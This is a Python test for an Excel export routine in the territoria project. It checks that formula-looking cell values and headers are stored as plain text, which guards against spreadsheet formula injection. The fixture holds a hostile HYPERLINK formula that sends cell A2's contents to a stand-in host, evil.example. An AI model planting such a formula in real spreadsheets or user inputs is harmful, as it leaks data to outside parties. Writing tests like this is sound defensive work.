"""A text value that looks like a formula (``=HYPERLINK(...)``, a source's cell or header) is
written to the Excel export as text: openpyxl stores a string starting with ``=`` as a formula,
which Excel evaluates when the sheet is opened (formula injection from any hostile input)."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from territoria.engines.base import Engine
from territoria.publication.formats import ExportJob
from territoria.publication.tabular import write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Rennes")'


def test_text_that_looks_like_a_formula_stays_text(engine: Engine, tmp_path: Path) -> None:
    engine.execute(
        f"""CREATE OR REPLACE TABLE hostile AS SELECT * FROM (VALUES
            ('35238', '{HOSTILE.replace("'", "''")}', 1.5), ('35047', 'Bruz', 2.0)) AS t (code, "=1+1", value)"""
    )
    dest = tmp_path / "hostile.xlsx"
    columns = [("code", "VARCHAR"), ("=1+1", "VARCHAR"), ("value", "DECIMAL(4,1)")]
    write_xlsx(ExportJob(engine, "hostile", columns, dest, "hostile"))
    sheet = zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, sheet
    cells = load_workbook(dest)["hostile"]
    assert cells["B1"].value == "=1+1" and cells["B1"].data_type == "s"
    # rows in the export's order: Bruz (35047) first
    assert cells["B3"].value == HOSTILE and cells["B3"].data_type == "s"
    assert cells["C3"].value == 1.5 and cells["B2"].value == "Bruz"
